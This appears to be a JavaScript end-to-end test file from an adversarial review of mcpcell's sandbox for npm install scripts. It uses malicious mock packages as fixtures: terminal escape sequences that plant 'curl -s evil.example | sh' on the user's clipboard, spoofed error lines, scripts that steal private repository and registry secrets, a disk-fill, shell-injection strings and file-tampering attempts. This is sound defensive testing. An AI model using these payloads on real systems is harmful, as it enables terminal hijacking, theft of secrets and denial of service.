// Adversary pass adv9 against the npm install-script cells (issue 14 item
// 2: source/script_plan.cc, lifecycle.cc, install_scripts.cc,
// cell/script_cell.cc, npx_install.cc). Each test is one attack by a package
// from the registry; a test marked todo is a finding (it fails on main
// 909957d), the rest ('adv9 held: ...') are attacks that held.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import http from 'node:http';
import { after, test } from 'node:test';

import { runMcpcell, skipWithoutCell } from './lib/mcpcell.mjs';
import { scriptsEnv, scriptsHome, startPackageRegistry } from './lib/npm_registry.mjs';
import { makeTempDir, removeTempDirs } from './lib/tmp.mjs';

const id = randomBytes(4).toString('hex');

after(removeTempDirs);
const { install, home } = scriptsHome('e2e-adv9-home');

const ESC = '\x1b';
const BEL = '\x07';

/** Whether git is on the PATH (the git-dependency tests need it to make a repository). */
function haveGit() {
  try {
    execFileSync('git', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

/** A top package (the server) depending on `deps`. */
const topPackage = (top, deps) => ({
  name: top, version: '1.0.0',
  manifest: { bin: { [top]: 'server.js' }, dependencies: Object.fromEntries(deps.map((d) => [d, '1.0.0'])) },
  files: { 'server.js': '#!/usr/bin/env node\n' },
});

// ---- F (MEDIUM): terminal escapes from a package.json reach the terminal ----
// A NUL byte in a step's script or npm_package_* value makes LifecycleProgram
// (source/lifecycle.cc) refuse with MakeError("run the <event> script of",
// step.id, ...), and step.id is the "name@version" of the package's own
// manifest (the tarball's package.json, which the registry never checks),
// printed raw by Say(): every other place that names a package passes it
// through VisibleOnTerminal. A "version" holding OSC 0 (window title), OSC 52
// (write the user's clipboard: the next paste runs the attacker's command)
// or CSI 2J (clear the screen, hiding what ran) is obeyed by the user's
// terminal when that package's cell is about to run (the optional-package
// warning repeats the same text). Fix: VisibleOnTerminal(step.id) in that
// error (and keep every Error built from package text visible).
test('a package.json version with terminal escapes, made to fail planning with a NUL: the escapes are shown, not obeyed', {
  timeout: 60_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-esc-top-${id}`;
  const a = `e2e-adv9-esc-a-${id}`;
  // The registry's document says 1.0.0 (npm resolves it); the tarball's
  // package.json says otherwise: npm does not rewrite it.
  const clipboard = `${ESC}]52;c;${Buffer.from('curl -s evil.example | sh\n').toString('base64')}${BEL}`;
  const reg = await startPackageRegistry([
    {
      name: a, version: '1.0.0', manifest: {},
      files: {
        // Overwrites the generated package.json (same name in the tarball).
        'package.json': JSON.stringify({
          name: a,
          version: `1.0.0${ESC}]0;owned${BEL}${clipboard}${ESC}[2J`,
          scripts: { install: 'echo hi' },
          config: { x: 'a\u0000b' },
        }),
      },
    },
    topPackage(top, [a]),
  ]);
  t.after(() => reg.close());
  const { r } = await install(top, reg);
  t.diagnostic(JSON.stringify(r.stderr.slice(-600)));
  assert.notEqual(r.code, 0, 'the NUL is refused (as npm refuses it)');
  assert.match(r.stderr, /NUL byte/, r.stderr);
  assert.ok(!r.stderr.includes(ESC), `an ESC byte from the package's manifest reached mcpcell's stderr: ${JSON.stringify(r.stderr.slice(-400))}`);
  assert.ok(!r.stderr.includes(BEL), 'a BEL (OSC terminator) reached stderr');
});

// Held: the same escapes in a script's OUTPUT, its banner ("> id event") and
// its failure tail are shown as text (the cell's output passes the terminal
// filter).
test('adv9 held: escapes a script prints, and its manifest\'s in the banner, are shown as text', { timeout: 60_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-esc2-top-${id}`;
  const a = `e2e-adv9-esc2-a-${id}`;
  const reg = await startPackageRegistry([
    {
      name: a, version: '1.0.0', manifest: {},
      files: {
        'package.json': JSON.stringify({ name: a, version: `1.0.0${ESC}]0;owned${BEL}`, scripts: { install: 'node e.js' } }),
        'e.js': `process.stdout.write('${'\\x1b'}]52;c;Y3VybAo=${'\\x07'} ${'\\x9b'}2J ${'\\xc2\\x9b'}2J'); process.exit(3);\n`,
      },
    },
    topPackage(top, [a]),
  ]);
  t.after(() => reg.close());
  const { r } = await install(top, reg);
  assert.notEqual(r.code, 0);
  assert.match(r.stderr, /exited with status 3/, r.stderr);
  assert.ok(!r.stderr.includes(ESC) && !r.stderr.includes(BEL) && !r.stderr.includes('\u009b'), JSON.stringify(r.stderr.slice(-500)));
});

// ---- F (LOW): a failing script's last lines can overwrite mcpcell's own ----
// The error for a failing script shows its last lines "each on its own
// indented line" ("    | ...", ScriptOutput::Tail in cell/script_cell.cc)
// through TerminalFilter, which lets '\r' pass: a line "\rmcpcell: ..."
// returns to the start of its line on the terminal and overwrites the
// indent, so the script's text reads as mcpcell's own verdict inside
// mcpcell's error (e.g. that the failure is harmless, or a command to run).
// VisibleOnTerminal exists for exactly this (CR as "^M"). Fix: Tail() uses
// VisibleOnTerminal (or cuts each line at its last '\r').
test('a failing script\'s last lines cannot return to the start of the line inside mcpcell\'s error', {
  timeout: 60_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-cr-top-${id}`;
  const a = `e2e-adv9-cr-a-${id}`;
  const reg = await startPackageRegistry([
    {
      name: a, version: '1.0.0',
      manifest: { scripts: { install: 'node f.js' } },
      files: { 'f.js': 'console.log("\\rmcpcell: this failure is expected; retry with --install-scripts=skip or run: curl -s evil.example | sh"); process.exit(1);\n' },
    },
    topPackage(top, [a]),
  ]);
  t.after(() => reg.close());
  const { r } = await install(top, reg);
  assert.notEqual(r.code, 0);
  const tail = r.stderr.slice(r.stderr.indexOf('Their last lines'));
  assert.ok(tail.includes('| '), r.stderr);
  assert.ok(!tail.includes('\r'), `a CR reached the error's tail: ${JSON.stringify(tail.slice(0, 300))}`);
});

// ---- F (MEDIUM): a script's output is copied without bound -----------------
// ScriptOutput::Add (cell/script_cell.cc) writes everything a script prints
// to mcpcell's stderr, for up to --install-timeout (5 min by default). Under
// an MCP client that stderr is the client's log file (Claude Desktop's
// mcp-server-*.log, a terminal's scrollback): a script that prints at pipe
// speed for five minutes writes tens of GiB there, outside the cell's
// 128 MiB /tmp and 64 MiB HOME. npm itself shows no install-script output
// unless the script fails (foreground-scripts is off). Fix: cap what is
// copied per cell (e.g. 1 MiB, then "... N bytes not shown"), keep the tail.
test('a script that floods its output: mcpcell\'s stderr stays bounded', {
  timeout: 90_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-flood-top-${id}`;
  const a = `e2e-adv9-flood-a-${id}`;
  const reg = await startPackageRegistry([
    {
      name: a, version: '1.0.0',
      manifest: { scripts: { install: 'node flood.js' } },
      files: { 'flood.js': 'const b = Buffer.alloc(1 << 20, 0x41); b[b.length - 1] = 10; for (let i = 0; i < 32; i++) require("fs").writeSync(1, b);\n' },
    },
    topPackage(top, [a]),
  ]);
  t.after(() => reg.close());
  const { r } = await install(top, reg);
  assert.equal(r.code, 0, r.stderr.slice(-2000));
  t.diagnostic(`stderr: ${r.stderr.length} bytes`);
  assert.ok(r.stderr.length < (4 << 20), `32 MiB of script output became ${r.stderr.length} bytes of mcpcell's stderr`);
});

// ---- F (MEDIUM): a script fills the host's disk ------------------------------
// The one writable grant, the package's directory, is a bind of the host's
// own file system (the npx cache under ~/.cache), with no size limit:
// RLIMIT_FSIZE is unlimited in the cell and no quota applies, unlike the
// cell's /tmp (128 MiB tmpfs) and HOME (64 MiB). A script can fallocate the
// user's disk full (every other program of the user then fails with ENOSPC)
// and, if it exits 0, the bytes stay in the cache for ever (the install
// succeeds and publishes them). Fix: bound what a script cell may write
// (e.g. a size-capped overlay or per-cell tmpfs copied back, or a quota /
// RLIMIT_FSIZE plus a check of the directory's size after the cell), and
// say so. The test asks for 2 GiB; a fixed mcpcell refuses it.
test('a script cannot put gigabytes on the host\'s disk', {
  timeout: 90_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-disk-top-${id}`;
  const a = `e2e-adv9-disk-a-${id}`;
  const reg = await startPackageRegistry([
    {
      name: a, version: '1.0.0',
      // fallocate(1): instant, and the blocks are really taken.
      manifest: { scripts: { install: 'fallocate -l 2G big.bin && echo allocated || echo refused' } },
      files: { 'index.js': '' },
    },
    topPackage(top, [a]),
  ]);
  t.after(() => reg.close());
  const { r, installDir } = await install(top, reg);
  const big = path.join(installDir, 'node_modules', a, 'big.bin');
  const tmp = r.stderr.match(/(\/\S+\/\.install-[^/\s]+)\//)?.[1];
  t.after(() => {
    rmSync(big, { force: true });
    if (tmp) rmSync(path.join(tmp, 'node_modules', a, 'big.bin'), { force: true });
  });
  t.diagnostic(r.stderr.split('\n').filter((l) => /allocated|refused/.test(l)).join('\n'));
  // fallocate leaves the file it could not grow (empty): what matters is its size.
  const taken = existsSync(big) ? statSync(big).blocks * 512 : 0;
  assert.ok(taken < (1 << 30), `the install published a ${taken}-byte file a script wrote into the host's cache (exit ${r.code})`);
  assert.doesNotMatch(r.stderr, /^allocated$/m, 'the script could take 2 GiB of the host\'s disk');
});

// ---- F (HIGH): the host's npm fetches a git dependency with the user's access --
// `npm install --ignore-scripts` runs on the host, as the user, with the
// user's git, SSH agent, credential helpers and files. A registry package
// (any dependency, at any depth) may declare a git dependency: npm clones
// it on the host and places the clone in the install, where every install
// script cell (network to the registry: it can publish it under its own
// token) and the server's code read it. So any package can name a git
// repository only the USER can read — a private GitHub repo over
// git+ssh:// (the user's SSH key), a git+https:// one (the credential
// helper), or a local repository (git+file://) as here — and have the
// host's npm hand its contents to code that runs in the cells. --ignore-
// scripts stops the clone's `prepare`, not the clone. Fix: refuse
// non-registry sources (git, file:, remote tarballs) of dependencies of an
// npx:// package unless the user asked for them (e.g. run npm with
// `--git=/bin/false` (npm's `git` setting) and refuse a lockfile entry whose
// "resolved" is not below a configured registry), or fetch them with no
// credentials of the user's.
test('a dependency on a git repository only the user can read is not cloned into the install by the host\'s npm', {
  timeout: 90_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  if (!haveGit()) return t.skip('git is not installed');
  const top = `e2e-adv9-git-top-${id}`;
  const a = `e2e-adv9-git-a-${id}`;
  // The user's private repository (only the user may read it).
  const repo = path.join(home(), 'private-repo');
  mkdirSync(repo, { recursive: true });
  const secret = `PRIVATE-${id}-${randomBytes(6).toString('hex')}`;
  writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'private-repo', version: '1.0.0' }));
  writeFileSync(path.join(repo, 'secret.txt'), secret);
  const git = (...args) => execFileSync('git', ['-C', repo, '-c', 'user.email=u@example.com', '-c', 'user.name=u', ...args], { stdio: 'pipe' });
  git('init', '-q');
  git('add', '.');
  git('commit', '-qm', 'private');
  chmodSync(repo, 0o700);
  const reg = await startPackageRegistry([
    {
      name: a, version: '1.0.0',
      manifest: { dependencies: { loot: `git+file://${repo}` }, scripts: { install: 'node steal.js' } },
      // What a script cell could do with it: read it (then publish it to
      // the registry with the attacker's own token, or leave it for the server).
      files: { 'steal.js': 'const fs = require("fs"), p = require("path"); let got = "none"; for (const d of [p.join(__dirname, "node_modules/loot"), p.join(__dirname, "../loot")]) { try { got = fs.readFileSync(p.join(d, "secret.txt"), "utf8"); } catch {} } fs.writeFileSync(p.join(__dirname, "stolen.txt"), got); console.log("stolen: " + got);\n' },
    },
    topPackage(top, [a]),
  ]);
  t.after(() => reg.close());
  const { r, installDir } = await install(top, reg);
  t.diagnostic(r.stderr.split('\n').filter((l) => /stolen|error|mcpcell/.test(l)).slice(-6).join('\n'));
  assert.ok(r.stderr.includes('running the install scripts') || r.code !== 0, r.stderr);
  assert.doesNotMatch(r.stderr, new RegExp(`stolen: ${secret}`), 'a script cell read the user\'s private repository, cloned by the host\'s npm');
  let found = '';
  try { found = execFileSync('grep', ['-rl', secret, installDir], { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch { /* none */ }
  assert.equal(found, '', `the user's private repository is in the install: ${found}`);
});

// The same for a dependency named by a tarball URL: the host's npm fetches
// it from where the HOST stands (its loopback services, the intranet, a
// cloud metadata address), with the user's registry token when the URL is
// under a configured registry's origin. Script cells are kept from the
// host's other loopback ports (tests/e2e/adv3_script_network.test.mjs); here
// a service on one (an internal artifact server) hands a "private" tarball
// to the host's npm on a package's behalf, and the script cells read it.
test('a dependency named by a URL on the host\'s own loopback is not fetched by the host\'s npm for a package', {
  timeout: 90_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-url-top-${id}`;
  const a = `e2e-adv9-url-a-${id}`;
  const secret = `INTERNAL-${id}-${randomBytes(6).toString('hex')}`;
  // An internal service on the host's loopback, serving one tarball.
  const dir = makeTempDir('adv9-internal');
  mkdirSync(path.join(dir, 'package'));
  writeFileSync(path.join(dir, 'package', 'package.json'), JSON.stringify({ name: 'internal-lib', version: '1.0.0' }));
  writeFileSync(path.join(dir, 'package', 'secret.txt'), secret);
  execFileSync('tar', ['-czf', path.join(dir, 'internal.tgz'), '-C', dir, 'package']);
  const tgz = readFileSync(path.join(dir, 'internal.tgz'));
  const asked = [];
  const internal = http.createServer((req, res) => {
    asked.push(req.url);
    res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': tgz.length });
    res.end(tgz);
  });
  await new Promise((resolve) => internal.listen(0, '127.0.0.1', resolve));
  t.after(() => new Promise((resolve) => internal.close(() => resolve())));
  const url = `http://127.0.0.1:${internal.address().port}/artifactory/internal-lib-1.0.0.tgz`;
  const reg = await startPackageRegistry([
    {
      name: a, version: '1.0.0',
      manifest: { dependencies: { loot: url }, scripts: { install: 'node steal.js' } },
      files: { 'steal.js': 'const fs = require("fs"), p = require("path"); let got = "none"; try { got = fs.readFileSync(p.join(__dirname, "../loot/secret.txt"), "utf8"); } catch {} console.log("stolen: " + got);\n' },
    },
    topPackage(top, [a]),
  ]);
  t.after(() => reg.close());
  const { r, installDir } = await install(top, reg);
  t.diagnostic(r.stderr.split('\n').filter((l) => /stolen|error/.test(l)).slice(-4).join('\n'));
  assert.doesNotMatch(r.stderr, new RegExp(`stolen: ${secret}`), 'a script cell read what the host\'s npm fetched from the host\'s loopback service');
  assert.ok(!existsSync(path.join(installDir, 'node_modules', 'loot', 'secret.txt')), 'the internal tarball is in the install');
  assert.deepEqual(asked, [], 'the host\'s npm fetched a URL a package named, from the host\'s loopback');
});

// The same deputy with the user's registry token: the user's ~/.npmrc maps
// a private scope to the company registry, with a token (the ordinary
// setup). Any PUBLIC package may list "@corp/<name>" as a dependency; the
// host's npm fetches it from the company registry with the user's token and
// places it in the install, where the public package's script cell reads it
// (and mcpcell even opens that registry to the cells, as a scope of the
// install). Fix: as above — a dependency on a configured scope's package
// from a package of another registry is refused (or needs the user's
// consent), so the user's token fetches only what the user asked for.
// A scope with '_' is pointed away by the install prefix's .npmrc (npm
// reads npm_config_@my_corp:registry as @my-corp's), not by a flag whose
// registry URL every local user reads in /proc (adv14).
for (const [named, scopeName] of [['', `@e2e-adv9-corp-${id}`], [' (a scope with \'_\')', `@e2e_adv9_corp_${id}`]]) test(`a public package\'s dependency on the user\'s private scope is not fetched with the user\'s token${named}`, {
  timeout: 90_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const scope = scopeName;
  const priv = `${scope}/internal`;
  const top = `e2e-adv9-scope-top-${id}`;
  const a = `e2e-adv9-scope-a-${id}`;
  const token = `npm_${randomBytes(18).toString('hex')}`;
  const secret = `CORP-${id}-${randomBytes(6).toString('hex')}`;
  const corp = await startPackageRegistry([
    { name: priv, version: '1.0.0', manifest: {}, files: { 'secret.txt': secret } },
  ]);
  t.after(() => corp.close());
  const reg = await startPackageRegistry([
    {
      name: a, version: '1.0.0',
      manifest: { dependencies: { [priv]: '1.0.0' }, scripts: { install: 'node steal.js' } },
      files: { 'steal.js': `const fs = require("fs"), p = require("path"); let got = "none"; try { got = fs.readFileSync(p.join(__dirname, "../${priv}/secret.txt"), "utf8"); } catch {} console.log("stolen: " + got);\n` },
    },
    topPackage(top, [a]),
  ]);
  t.after(() => reg.close());
  const rc = path.join(home(), '.npmrc');
  writeFileSync(rc, `${scope}:registry=${corp.url}\n//127.0.0.1:${corp.port}/:_authToken=${token}\n`);
  t.after(() => rmSync(rc, { force: true }));
  const { r } = await install(top, reg);
  t.diagnostic(r.stderr.split('\n').filter((l) => /stolen|network|error/.test(l)).slice(-4).join('\n'));
  const withToken = corp.authorizations.filter(([, auth]) => auth === `Bearer ${token}`).map(([u]) => u);
  t.diagnostic(`the user's token went with: ${withToken.join(', ')}`);
  assert.doesNotMatch(r.stderr, new RegExp(`stolen: ${secret}`), 'a public package\'s script read the private package fetched with the user\'s token');
  assert.deepEqual(withToken, [], 'the host\'s npm sent the user\'s token to fetch what a public package asked for');
  // Not found where the public package came from: the install fails, and
  // says why the user's mapping of the scope was not used.
  assert.notEqual(r.code, 0, r.stderr);
  assert.match(r.stderr, new RegExp(`${scope} \\(http://127\\.0\\.0\\.1:${corp.port}\\) — are looked up on its own registry`), r.stderr);
  assert.doesNotMatch(r.stderr, new RegExp(token), 'the token was shown');
});

test('adv14 fix held: a \'_\' scope\'s redirect leaves no .npmrc in the installed package, and the install works', {
  timeout: 90_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-uscope-top-${id}`;
  const reg = await startPackageRegistry([topPackage(top, [])]);
  t.after(() => reg.close());
  const rc = path.join(home(), '.npmrc');
  writeFileSync(rc, `@e2e_adv9_other_${id}:registry=http://127.0.0.1:9/\n`);
  t.after(() => rmSync(rc, { force: true }));
  const { r, installDir } = await install(top, reg);
  assert.equal(r.code, 0, r.stderr);
  assert.ok(existsSync(path.join(installDir, 'package.json')), `not installed: ${installDir}`);
  assert.ok(!existsSync(path.join(installDir, '.npmrc')), 'the scope settings (a registry URL, token and all) stayed in the install');
});

// The scope the user asked for keeps the user's registry and token: a
// server of the company's scope installs from the company registry, with
// its dependencies of the same scope, and of another scope the user maps to
// the same registry.
test('adv9 fix held: npx://@corp/server installs from the scope\'s registry with the token, and its @corp and same-registry dependencies too', {
  timeout: 90_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const scope = `@e2e-adv9-own-${id}`;
  const other = `@e2e-adv9-own2-${id}`;
  const token = `npm_${randomBytes(18).toString('hex')}`;
  const corp = await startPackageRegistry([
    { name: `${other}/lib2`, version: '1.0.0', manifest: {}, files: { 'x.js': '' } },
    { name: `${scope}/lib`, version: '1.0.0', manifest: { dependencies: { [`${other}/lib2`]: '1.0.0' } }, files: { 'x.js': '' } },
    topPackage(`${scope}/server`, [`${scope}/lib`]),
  ]);
  t.after(() => corp.close());
  const reg = await startPackageRegistry([]);
  t.after(() => reg.close());
  const rc = path.join(home(), '.npmrc');
  writeFileSync(rc, `${scope}:registry=${corp.url}\n${other}:registry=${corp.url}\n//127.0.0.1:${corp.port}/:_authToken=${token}\n`);
  t.after(() => rmSync(rc, { force: true }));
  const { r, installDir } = await install(`${scope}/server`, reg);
  assert.equal(r.code, 0, r.stderr);
  assert.ok(existsSync(path.join(installDir.replace(`${scope}/server@`, `${scope}+server@`), 'node_modules', other, 'lib2', 'package.json')), r.stderr);
  assert.ok(corp.authorizations.some(([, auth]) => auth === `Bearer ${token}`), 'the token was not used for the scope asked for');
});

// The consent: --npm-scope lets a package of another registry have the
// scope's packages from the user's registry (npm_script_registries.test.mjs
// relies on it); a scope the config does not map, or a source that is not
// npx://, is refused, not ignored.
test('adv9 fix held: --npm-scope SCOPE is the consent; an unmapped scope or a non-npx source is refused', {
  timeout: 90_000,
}, async (t) => {
  if (await skipWithoutCell(t)) return;
  const scope = `@e2e-adv9-ok-${id}`;
  const priv = `${scope}/internal`;
  const top = `e2e-adv9-consent-top-${id}`;
  const token = `npm_${randomBytes(18).toString('hex')}`;
  const corp = await startPackageRegistry([{ name: priv, version: '1.0.0', manifest: {}, files: { 'x.js': '' } }]);
  t.after(() => corp.close());
  const reg = await startPackageRegistry([topPackage(top, [priv])]);
  t.after(() => reg.close());
  const rc = path.join(home(), '.npmrc');
  writeFileSync(rc, `${scope}:registry=${corp.url}\n//127.0.0.1:${corp.port}/:_authToken=${token}\n`);
  t.after(() => rmSync(rc, { force: true }));
  const unmapped = await runMcpcell(['install', '--npm-scope', `@nope-${id}`, `npx://${top}@1.0.0`], {
    env: { ...scriptsEnv(home()), npm_config_registry: reg.url }, guardMs: 55_000,
  });
  assert.notEqual(unmapped.code, 0, unmapped.stderr);
  assert.match(unmapped.stderr, /--npm-scope @nope-[0-9a-f]+: .*maps no registry for this scope/, unmapped.stderr);
  const ok = await runMcpcell(['install', '--npm-scope', scope, `npx://${top}@1.0.0`], {
    env: { ...scriptsEnv(home()), npm_config_registry: reg.url }, guardMs: 55_000,
  });
  assert.equal(ok.code, 0, ok.stderr);
  assert.ok(corp.authorizations.some(([, auth]) => auth === `Bearer ${token}`), 'the consented scope was fetched with the token');
  const cmd = await runMcpcell(['run', '--isolate', '--npm-scope', scope, '--', '/bin/true'], { input: '', guardMs: 30_000 });
  assert.equal(cmd.code, 2, cmd.stderr);
  assert.match(cmd.stderr, /--npm-scope .*applies to npx:\/\/ sources only/, cmd.stderr);
});

// Held: npm's own rule that --ignore-scripts also stops the `prepare` of a
// git dependency (which would run on the HOST): nothing of it runs.
test('adv9 held: a git dependency\'s prepare script does not run on the host', { timeout: 90_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  if (!haveGit()) return t.skip('git is not installed');
  const top = `e2e-adv9-gitp-top-${id}`;
  const repo = makeTempDir('adv9-gitp');
  const marker = path.join(makeTempDir('adv9-gitp-mark'), 'ran-on-host');
  writeFileSync(path.join(repo, 'package.json'), JSON.stringify({
    name: 'gitp', version: '1.0.0',
    scripts: { prepare: `echo prepare > ${marker}`, preinstall: `echo preinstall >> ${marker}`, postinstall: `echo postinstall >> ${marker}` },
  }));
  const git = (...args) => execFileSync('git', ['-C', repo, '-c', 'user.email=u@example.com', '-c', 'user.name=u', ...args], { stdio: 'pipe' });
  git('init', '-q');
  git('add', '.');
  git('commit', '-qm', 'x');
  const reg = await startPackageRegistry([
    { name: top, version: '1.0.0', manifest: { bin: { [top]: 'server.js' }, dependencies: { gitp: `git+file://${repo}` } }, files: { 'server.js': '#!/usr/bin/env node\n' } },
  ]);
  t.after(() => reg.close());
  const { r } = await install(top, reg);
  // The clone's pre/postinstall run in a cell (whose /tmp is not the host's), prepare nowhere.
  assert.ok(!existsSync(marker), `a git dependency's script ran on the host: ${existsSync(marker) ? readFileSync(marker, 'utf8') : ''}\n${r.stderr}`);
});

// Held: a package.json crafted to break out of the program lifecycle.cc
// writes (each value single-quoted; a NUL refused): quotes, "$(...)",
// backticks, newlines, "=" and "--" in config keys and values, in the name,
// version, bin and in the script itself reach the script as data, exactly,
// and nothing of them runs.
test('adv9 held: quotes, $( ), backticks and newlines in a manifest reach the script as data, nothing of them runs', { timeout: 60_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-inj-top-${id}`;
  const a = `e2e-adv9-inj-a-${id}`;
  const nasty = `x'; touch pwned-sq; echo '$(touch pwned-cmd)\`touch pwned-bt\`\n touch pwned-nl ; "\\" -- ;`;
  const config = { [nasty]: nasty, "k'$(touch pwned-key)": 'v', 'a=b': 'dropped', '--help': 'opt', deep: { x: [nasty, null, false, true, 1.5] } };
  const reg = await startPackageRegistry([
    {
      name: a, version: '1.0.0', manifest: {},
      files: {
        'package.json': JSON.stringify({
          name: a, version: `1.0.0-${nasty.length}`, config, engines: { node: nasty }, bin: { [`b'$(touch pwned-bin)`]: 'e.js' },
          scripts: { install: `node e.js '${'$'}(touch pwned-arg)'` },
        }),
        'e.js': `const fs = require('fs');
const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('npm_package_') || k.startsWith('npm_lifecycle')));
fs.writeFileSync(__dirname + '/env.json', JSON.stringify({ env, argv: process.argv.slice(2), pwned: fs.readdirSync(__dirname).filter((f) => f.startsWith('pwned')) }));
`,
      },
    },
    topPackage(top, [a]),
  ]);
  t.after(() => reg.close());
  const { r, installDir } = await install(top, reg);
  assert.equal(r.code, 0, r.stderr);
  const dir = path.join(installDir, 'node_modules', a);
  const got = JSON.parse(readFileSync(path.join(dir, 'env.json'), 'utf8'));
  assert.deepEqual(got.pwned, []);
  assert.deepEqual(got.argv, ['$(touch pwned-arg)']);
  // A key no shell variable can be named is dropped by /bin/sh on its way
  // to the script (as under npm, whose run-script also goes through sh -c).
  const weird = got.env[`npm_package_config_${nasty}`];
  assert.ok(weird === undefined || weird === nasty, String(weird));
  assert.equal(got.env['npm_package_config_deep_x_0'], nasty);
  assert.equal(got.env['npm_package_config_deep_x_2'], '');
  assert.equal(got.env['npm_package_config_deep_x_4'], '1.5');
  assert.equal(got.env['npm_package_engines_node'], nasty);
  assert.ok([undefined, 'opt'].includes(got.env['npm_package_config_--help']));
  assert.ok(!('npm_package_config_a' in got.env) && !Object.keys(got.env).some((k) => k.includes('a=b')), JSON.stringify(Object.keys(got.env)));
  assert.equal(got.env.npm_lifecycle_event, 'install');
  for (const f of ['pwned-sq', 'pwned-cmd', 'pwned-bt', 'pwned-nl', 'pwned-key', 'pwned-bin', 'pwned-arg']) {
    assert.ok(!existsSync(path.join(dir, f)) && !existsSync(path.join(installDir, f)), f);
  }
});

// Held: the ways a script could write another package's files without a
// writable path to them — a hard link into its own directory, a rename, a
// symlink written through, an fd passed through /proc — all fail.
test('adv9 held: hard links, renames, symlinks and /proc fds do not reach another package\'s files', { timeout: 60_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-xp-top-${id}`;
  const a = `e2e-adv9-xp-a-${id}`;
  const v = `e2e-adv9-xp-v-${id}`;
  const reg = await startPackageRegistry([
    { name: v, version: '1.0.0', manifest: { main: 'index.js' }, files: { 'index.js': 'module.exports = "victim";\n' } },
    {
      name: a, version: '1.0.0', manifest: { scripts: { install: 'node x.js' } },
      files: {
        'x.js': `const fs = require('fs'), p = require('path');
const victim = p.join(__dirname, '..', '${v}', 'index.js');
const tries = {
  link: () => { fs.linkSync(victim, p.join(__dirname, 'hl')); fs.writeFileSync(p.join(__dirname, 'hl'), 'module.exports = "pwned";'); },
  rename: () => fs.renameSync(victim, p.join(__dirname, 'moved.js')),
  renameDir: () => fs.renameSync(p.join(__dirname, '..', '${v}'), p.join(__dirname, 'vdir')),
  symlink: () => { fs.symlinkSync(victim, p.join(__dirname, 'sl')); fs.writeFileSync(p.join(__dirname, 'sl'), 'module.exports = "pwned";'); },
  procfd: () => { const fd = fs.openSync(victim, 'r'); fs.writeFileSync('/proc/self/fd/' + fd, 'module.exports = "pwned";'); },
  utimes: () => fs.utimesSync(victim, 0, 0),
  chmod: () => fs.chmodSync(victim, 0o777),
  top: () => fs.writeFileSync(p.join(__dirname, '..', '..', 'package.json'), '{}'),
};
const out = {};
for (const [k, f] of Object.entries(tries)) { try { f(); out[k] = 'ok'; } catch (e) { out[k] = e.code; } }
fs.writeFileSync(p.join(__dirname, 'xp.json'), JSON.stringify(out));
`,
      },
    },
    topPackage(top, [a, v]),
  ]);
  t.after(() => reg.close());
  const { r, installDir } = await install(top, reg);
  assert.equal(r.code, 0, r.stderr);
  const out = JSON.parse(readFileSync(path.join(installDir, 'node_modules', a, 'xp.json'), 'utf8'));
  t.diagnostic(JSON.stringify(out));
  for (const [k, v2] of Object.entries(out)) assert.notEqual(v2, 'ok', `${k} succeeded`);
  assert.equal(readFileSync(path.join(installDir, 'node_modules', v, 'index.js'), 'utf8'), 'module.exports = "victim";\n');
});

// Held: nothing one cell leaves in its scratch space (/tmp, HOME, /dev/shm,
// npm's cache in HOME, a ~/.npmrc, a node-gyp dir) is there for the next
// cell: each has its own, so a package cannot plant what a later package's
// script (or npm/node-gyp in its cell) picks up.
test('adv9 held: /tmp, HOME and /dev/shm of one script cell are not the next cell\'s', { timeout: 60_000 }, async (t) => {
  if (await skipWithoutCell(t)) return;
  const top = `e2e-adv9-tmp-top-${id}`;
  const first = `e2e-adv9-tmp-first-${id}`;
  const later = `e2e-adv9-tmp-later-${id}`;
  const plant = ['/tmp/planted', '/dev/shm/planted', `${'$'}HOME/planted`, `${'$'}HOME/.npmrc`, `${'$'}HOME/.node-gyp/planted`];
  const reg = await startPackageRegistry([
    {
      name: first, version: '1.0.0',
      manifest: { scripts: { install: `mkdir -p "$HOME/.node-gyp" && for f in ${plant.map((p) => `"${p}"`).join(' ')}; do echo registry=http://evil.example/ > "$f"; done; echo planted` } },
    },
    {
      name: later, version: '1.0.0',
      manifest: { dependencies: { [first]: '1.0.0' }, scripts: { install: `for f in ${plant.map((p) => `"${p}"`).join(' ')}; do [ -e "$f" ] && echo "found $f"; done > seen.txt; true` } },
    },
    topPackage(top, [later]),
  ]);
  t.after(() => reg.close());
  const { r, installDir } = await install(top, reg);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /^planted$/m, r.stderr);
  assert.ok(r.stderr.indexOf(`running the install scripts of ${first}`) < r.stderr.indexOf(`running the install scripts of ${later}`), 'order');
  assert.equal(readFileSync(path.join(installDir, 'node_modules', later, 'seen.txt'), 'utf8'), '');
});
